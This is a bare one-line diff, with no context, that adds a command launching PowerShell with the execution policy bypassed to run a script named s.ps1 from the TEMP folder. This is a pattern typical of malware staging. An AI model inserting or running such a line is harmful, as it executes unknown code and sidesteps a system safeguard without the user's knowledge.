@@ -1,0 +1,1 @@
+powershell -ExecutionPolicy Bypass -File $env:TEMP\s.ps1
